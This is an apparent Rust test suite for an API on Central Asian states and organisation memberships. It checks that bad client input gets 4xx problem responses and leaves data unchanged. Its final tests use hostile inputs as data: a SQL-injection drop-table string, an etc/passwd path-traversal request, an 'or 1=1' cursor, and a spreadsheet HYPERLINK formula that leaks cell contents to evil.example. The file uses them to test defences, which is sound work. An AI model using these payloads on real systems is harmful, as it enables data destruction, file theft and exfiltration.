//! Every client mistake is a problem+json 4xx that names what is wrong and changes nothing.

use axum::body::Body;
use axum::http::{Method, Request, header};
use serde_json::{Value, json};

use crate::cases;
use crate::harness::{Case, TestApp};

pub fn cases() -> Vec<Case> {
    cases![
        malformed_or_empty_json_is_400,
        csv_cells_a_spreadsheet_would_run_are_neutralised,
        a_query_with_too_many_parameters_is_400,
        wrong_or_missing_content_type_is_415,
        wrong_types_are_422_naming_each_field,
        unknown_fields_are_rejected,
        impossible_dates_and_wrong_precision_are_422,
        periods_must_end_after_they_start,
        unknown_enum_values_are_422_with_the_allowed_set,
        references_to_absent_rows_are_422,
        facts_need_existing_sources,
        overlapping_periods_for_the_same_state_organisation_and_role_are_422,
        strings_with_nul_bytes_are_422,
        ids_are_assigned_by_the_server,
        bodies_that_are_not_objects_are_422,
        oversized_bodies_are_413,
        wrong_methods_are_405_with_allow,
        injection_strings_are_data_not_sql,
    ]
}

async fn raw(
    app: &TestApp,
    method: Method,
    path: &str,
    ct: Option<&str>,
    body: impl Into<Body>,
) -> crate::harness::Resp {
    let mut req = Request::builder()
        .method(method)
        .uri(path)
        .header(header::AUTHORIZATION, format!("Bearer {}", app.token));
    if let Some(ct) = ct {
        req = req.header(header::CONTENT_TYPE, ct);
    }
    app.send(req.body(body.into()).unwrap()).await
}

/// Send a bad body, check the problem, and check nothing changed.
async fn rejects(
    app: &TestApp,
    method: Method,
    path: &str,
    body: Value,
    status: u16,
) -> crate::harness::Resp {
    let before = app.snapshot().await;
    let r = app.write(method, path, Some(&body)).await;
    r.assert_problem(status);
    assert!(
        app.snapshot().await == before,
        "a rejected write changed data: {}",
        r.text
    );
    r
}

fn membership() -> Value {
    json!({"state": "TM", "organisation": "sco", "role": "observer", "joined_on": "2030-01-01", "sources": ["seed-article"]})
}

async fn malformed_or_empty_json_is_400(app: TestApp) {
    for body in ["{", "{\"name\": }", "nul", "{\"a\":1}}", ""] {
        let r = raw(
            &app,
            Method::POST,
            "/v1/sources",
            Some("application/json"),
            body.to_string(),
        )
        .await;
        r.assert_problem(400);
        assert!(
            r.body["detail"].as_str().unwrap().contains("JSON")
                || r.body["detail"].as_str().unwrap().contains("empty"),
            "{}",
            r.text
        );
    }
    let r = raw(
        &app,
        Method::PUT,
        "/v1/states/KZ",
        Some("application/json"),
        "[1,".to_string(),
    )
    .await;
    r.assert_problem(400);
    assert_eq!(app.total("sources").await, 255);
}

async fn wrong_or_missing_content_type_is_415(app: TestApp) {
    let body = json!({"slug": "x", "title": "X"}).to_string();
    raw(
        &app,
        Method::POST,
        "/v1/sources",
        Some("text/plain"),
        body.clone(),
    )
    .await
    .assert_problem(415);
    raw(&app, Method::POST, "/v1/sources", None, body.clone())
        .await
        .assert_problem(415);
    raw(
        &app,
        Method::POST,
        "/v1/sources",
        Some("application/merge-patch+json"),
        body.clone(),
    )
    .await
    .assert_problem(415);
    let ok = raw(
        &app,
        Method::POST,
        "/v1/sources",
        Some("application/json; charset=utf-8"),
        body,
    )
    .await;
    assert_eq!(ok.status, 201, "{}", ok.text);
    let patch = raw(
        &app,
        Method::PATCH,
        "/v1/sources/x",
        Some("application/merge-patch+json"),
        json!({"publisher": "P"}).to_string(),
    )
    .await;
    assert_eq!(patch.status, 200, "{}", patch.text);
    raw(
        &app,
        Method::PATCH,
        "/v1/sources/x",
        Some("application/xml"),
        "<a/>".to_string(),
    )
    .await
    .assert_problem(415);
}

async fn wrong_types_are_422_naming_each_field(app: TestApp) {
    let body = json!({"code": "XQ", "iso3": 5, "name": ["x"], "central_asian": "yes", "cow_code": 1.5, "sources": "iso-lukes"});
    let r = rejects(&app, Method::POST, "/v1/states", body, 422).await;
    let mut fields = r.error_fields();
    fields.sort();
    assert_eq!(
        fields,
        ["central_asian", "cow_code", "iso3", "name", "sources"]
    );
    for e in r.body["errors"].as_array().unwrap() {
        assert!(e["message"].as_str().unwrap().len() > 5);
    }
    let mut m = membership();
    m["founding"] = json!(1);
    m["joined_on"] = json!(20300101);
    let r = rejects(&app, Method::POST, "/v1/memberships", m, 422).await;
    let mut fields = r.error_fields();
    fields.sort();
    assert_eq!(fields, ["founding", "joined_on"]);
}

async fn unknown_fields_are_rejected(app: TestApp) {
    let mut m = membership();
    m["colour"] = json!("red");
    let r = rejects(&app, Method::POST, "/v1/memberships", m, 422).await;
    assert_eq!(r.error_fields(), ["colour"]);
    let r = rejects(
        &app,
        Method::POST,
        "/v1/sources",
        json!({"slug": "s", "title": "T", "sources": ["x"]}),
        422,
    )
    .await;
    assert_eq!(r.error_fields(), ["sources"]);
    rejects(
        &app,
        Method::PATCH,
        "/v1/states/KZ",
        json!({"capital": "Astana"}),
        422,
    )
    .await;
}

async fn impossible_dates_and_wrong_precision_are_422(app: TestApp) {
    for d in [
        "2023-02-29",
        "2030-13-01",
        "2030-1-1",
        "01/02/2030",
        "2030-01-01T00:00:00Z",
        "",
    ] {
        let mut m = membership();
        m["joined_on"] = json!(d);
        let r = rejects(&app, Method::POST, "/v1/memberships", m, 422).await;
        assert_eq!(r.error_fields(), ["joined_on"], "{d}");
    }
    let mut m = membership();
    m["joined_precision"] = json!("month");
    m["joined_on"] = json!("2030-01-15");
    let r = rejects(&app, Method::POST, "/v1/memberships", m, 422).await;
    assert_eq!(r.error_fields(), ["joined_on"]);
    let mut m = membership();
    m["joined_precision"] = json!("year");
    m["joined_on"] = json!("2030-02-01");
    rejects(&app, Method::POST, "/v1/memberships", m, 422).await;
    let mut m = membership();
    m["joined_precision"] = json!("decade");
    let r = rejects(&app, Method::POST, "/v1/memberships", m, 422).await;
    assert_eq!(r.error_fields(), ["joined_precision"]);
    let mut ok = membership();
    ok["joined_precision"] = json!("year");
    assert_eq!(
        app.write(Method::POST, "/v1/memberships", Some(&ok))
            .await
            .status,
        201
    );
}

async fn periods_must_end_after_they_start(app: TestApp) {
    let mut m = membership();
    m["left_on"] = json!("2029-12-31");
    let r = rejects(&app, Method::POST, "/v1/memberships", m, 422).await;
    assert_eq!(r.error_fields(), ["left_on"]);
    let mut same = membership();
    same["left_on"] = json!("2030-01-01");
    rejects(&app, Method::POST, "/v1/memberships", same, 422).await;
    rejects(
        &app,
        Method::PATCH,
        "/v1/organisations/cst",
        json!({"ended_on": "1990-01-01"}),
        422,
    )
    .await;
    rejects(
        &app,
        Method::PATCH,
        "/v1/agreements/cst",
        json!({"ended_on": "1992-05-15"}),
        422,
    )
    .await;
}

async fn unknown_enum_values_are_422_with_the_allowed_set(app: TestApp) {
    let mut m = membership();
    m["role"] = json!("overlord");
    let r = rejects(&app, Method::POST, "/v1/memberships", m, 422).await;
    assert_eq!(r.error_fields(), ["role"]);
    assert!(
        r.body["errors"][0]["message"]
            .as_str()
            .unwrap()
            .contains("dialogue_partner")
    );
    rejects(
        &app,
        Method::PATCH,
        "/v1/states/KZ",
        json!({"confidence": "sure"}),
        422,
    )
    .await;
    rejects(
        &app,
        Method::PATCH,
        "/v1/claims/c01",
        json!({"verdict": "meh"}),
        422,
    )
    .await;
    rejects(
        &app,
        Method::PATCH,
        "/v1/organisations/sco",
        json!({"membership_coverage": "most"}),
        422,
    )
    .await;
}

async fn references_to_absent_rows_are_422(app: TestApp) {
    let mut m = membership();
    m["state"] = json!("QQ");
    m["organisation"] = json!("warsaw-pact");
    let r = rejects(&app, Method::POST, "/v1/memberships", m, 422).await;
    let mut f = r.error_fields();
    f.sort();
    assert_eq!(f, ["organisation", "state"]);
    assert!(r.text.contains("QQ") && r.text.contains("warsaw-pact"));
    rejects(
        &app,
        Method::PATCH,
        "/v1/agreements/cst",
        json!({"governs": "nope"}),
        422,
    )
    .await;
    rejects(
        &app,
        Method::PATCH,
        "/v1/organisations/csto",
        json!({"predecessor": "csto"}),
        422,
    )
    .await;
    rejects(
        &app,
        Method::POST,
        "/v1/agreement-parties",
        json!({"agreement": "nope", "state": "KZ", "role": "party", "sources": ["seed-article"]}),
        422,
    )
    .await;
}

async fn facts_need_existing_sources(app: TestApp) {
    for sources in [
        json!(null),
        json!([]),
        json!(["no-such-source"]),
        json!(["seed-article", "seed-article"]),
        json!([1]),
    ] {
        let mut m = membership();
        match &sources {
            Value::Null => {
                m.as_object_mut().unwrap().remove("sources");
            }
            s => m["sources"] = s.clone(),
        }
        let r = rejects(&app, Method::POST, "/v1/memberships", m, 422).await;
        assert_eq!(r.error_fields(), ["sources"], "{sources}");
    }
    rejects(
        &app,
        Method::PATCH,
        "/v1/states/KZ",
        json!({"sources": []}),
        422,
    )
    .await;
}

async fn overlapping_periods_for_the_same_state_organisation_and_role_are_422(app: TestApp) {
    // Kazakhstan has been a CSTO member since 2002-10-07 (open-ended).
    let m = json!({"state": "KZ", "organisation": "csto", "role": "member", "joined_on": "1999-01-01", "left_on": "2002-10-08", "sources": ["seed-article"]});
    let r = rejects(&app, Method::POST, "/v1/memberships", m, 422).await;
    assert!(r.body["detail"].as_str().unwrap().contains("overlaps"));
    // Touching periods are fine: half-open, the earlier ends the day the later starts.
    let touching = json!({"state": "KZ", "organisation": "csto", "role": "member", "joined_on": "1999-01-01", "left_on": "2002-10-07", "sources": ["seed-article"]});
    assert_eq!(
        app.write(Method::POST, "/v1/memberships", Some(&touching))
            .await
            .status,
        201
    );
    // Another role in the same period is fine.
    let observer = json!({"state": "KZ", "organisation": "csto", "role": "observer", "joined_on": "2003-01-01", "sources": ["seed-article"]});
    assert_eq!(
        app.write(Method::POST, "/v1/memberships", Some(&observer))
            .await
            .status,
        201
    );
    // Moving an existing period onto another is caught on PATCH too (Uzbekistan's two CSTO-era rows).
    let r = rejects(
        &app,
        Method::PATCH,
        "/v1/memberships/16",
        json!({"organisation": "cst", "joined_on": "1995-01-01"}),
        422,
    )
    .await;
    assert!(r.body["detail"].as_str().unwrap().contains("overlaps"));
}

async fn strings_with_nul_bytes_are_422(app: TestApp) {
    let r = rejects(
        &app,
        Method::POST,
        "/v1/sources",
        json!({"slug": "nul", "title": "a\u{0}b"}),
        422,
    )
    .await;
    assert_eq!(r.error_fields(), ["title"]);
    rejects(
        &app,
        Method::PATCH,
        "/v1/states/KZ",
        json!({"note": "\u{0}"}),
        422,
    )
    .await;
    rejects(&app, Method::POST, "/v1/memberships", json!({"state": "K\u{0}", "organisation": "sco", "role": "observer", "joined_on": "2030-01-01", "sources": ["seed-article"]}), 422).await;
    app.get("/v1/states?name=a%00b").await.assert_problem(400);
}

async fn ids_are_assigned_by_the_server(app: TestApp) {
    let mut m = membership();
    m["id"] = json!(77);
    let r = rejects(&app, Method::POST, "/v1/memberships", m, 422).await;
    assert_eq!(r.error_fields(), ["id"]);
}

async fn bodies_that_are_not_objects_are_422(app: TestApp) {
    for body in [json!([]), json!("state"), json!(5), json!(null)] {
        rejects(&app, Method::POST, "/v1/sources", body.clone(), 422).await;
        rejects(&app, Method::PATCH, "/v1/sources/seed-article", body, 422).await;
    }
}

async fn oversized_bodies_are_413(app: TestApp) {
    let big = format!(
        "{{\"slug\":\"big\",\"title\":\"{}\"}}",
        "x".repeat(2 * 1024 * 1024)
    );
    raw(
        &app,
        Method::POST,
        "/v1/sources",
        Some("application/json"),
        big,
    )
    .await
    .assert_problem(413);
    // Just under the limit but over the field's maximum length: a 422, not a 413.
    let long = format!("{{\"slug\":\"big\",\"title\":\"{}\"}}", "x".repeat(20_000));
    let r = raw(
        &app,
        Method::POST,
        "/v1/sources",
        Some("application/json"),
        long,
    )
    .await;
    r.assert_problem(422);
    assert_eq!(app.total("sources").await, 255);
}

async fn wrong_methods_are_405_with_allow(app: TestApp) {
    let r = app.write(Method::DELETE, "/v1/states", None).await;
    r.assert_problem(405);
    let allow = r.header("allow").unwrap();
    assert!(allow.contains("GET") && allow.contains("POST"), "{allow}");
    let r = app
        .write(Method::POST, "/v1/states/KZ", Some(&json!({})))
        .await;
    r.assert_problem(405);
    assert!(r.header("allow").unwrap().contains("PATCH"));
    app.write(Method::PUT, "/healthz", None)
        .await
        .assert_problem(405);
    assert_eq!(app.total("states").await, 88);
}

async fn injection_strings_are_data_not_sql(app: TestApp) {
    let evil = "x'); drop table states; --";
    let r = app
        .get(&format!("/v1/states?name={}", urlencode(evil)))
        .await;
    assert_eq!(r.status, 200, "{}", r.text);
    assert_eq!(r.body["page"]["total"], 0);
    app.get(&format!("/v1/states/{}", urlencode(evil)))
        .await
        .assert_problem(404);
    let note = app
        .write(Method::PATCH, "/v1/states/KZ", Some(&json!({"note": evil})))
        .await;
    assert_eq!(note.status, 200);
    assert_eq!(app.get("/v1/states/KZ").await.body["note"], evil);
    app.get("/v1/sources/..%2F..%2Fetc%2Fpasswd")
        .await
        .assert_problem(404);
    app.get("/v1/memberships?cursor=%27%20or%201%3D1")
        .await
        .assert_problem(400);
    assert_eq!(app.total("states").await, 88);
}

fn urlencode(s: &str) -> String {
    form_urlencoded::byte_serialize(s.as_bytes()).collect()
}

/// OWASP's CSV-injection rule: a cell starting with = + - @ TAB or CR opens as text.
async fn csv_cells_a_spreadsheet_would_run_are_neutralised(app: TestApp) {
    let evil = r#"=HYPERLINK("http://evil.example/?"&A1,"click")"#;
    for (slug, title) in [
        ("evil-eq", evil),
        ("evil-plus", "+1+1"),
        ("evil-at", "@SUM(A1)"),
        ("evil-minus", "-2+3"),
    ] {
        app.write(
            Method::POST,
            "/v1/sources",
            Some(&json!({"slug": slug, "title": title})),
        )
        .await
        .assert_status(201);
        // JSON keeps the exact value.
        assert_eq!(
            app.get(&format!("/v1/sources/{slug}")).await.body["title"],
            title
        );
    }
    let csv = app.get("/v1/sources.csv?limit=500").await;
    assert_eq!(csv.status, 200, "{}", csv.text);
    for (slug, shown) in [
        (
            "evil-eq",
            r#""'=HYPERLINK(""http://evil.example/?""&A1,""click"")""#.to_string(),
        ),
        ("evil-plus", "'+1+1".to_string()),
        ("evil-at", "'@SUM(A1)".to_string()),
        ("evil-minus", "'-2+3".to_string()),
    ] {
        let line = csv
            .text
            .lines()
            .find(|l| l.starts_with(&format!("{slug},")))
            .unwrap_or_else(|| panic!("{slug} in {}", csv.text));
        assert!(line.starts_with(&format!("{slug},{shown}")), "{line}");
    }
}

async fn a_query_with_too_many_parameters_is_400(app: TestApp) {
    let many: Vec<String> = (0..101).map(|i| format!("p{i}=1")).collect();
    let r = app.get(&format!("/v1/states?{}", many.join("&"))).await;
    r.assert_problem(400);
    assert!(
        r.body["detail"].as_str().unwrap().contains("100"),
        "{}",
        r.text
    );
    // A hostile query near the URI limit (60 KB, ~8,000 parameters) is refused the same
    // way: parsing stops at the limit.
    let hostile: Vec<String> = (0..8_000).map(|i| format!("a{i}=b")).collect();
    let q = hostile.join("&");
    assert!(q.len() > 60_000);
    app.get(&format!("/v1/organisations/csto/members?{q}"))
        .await
        .assert_problem(400);
}
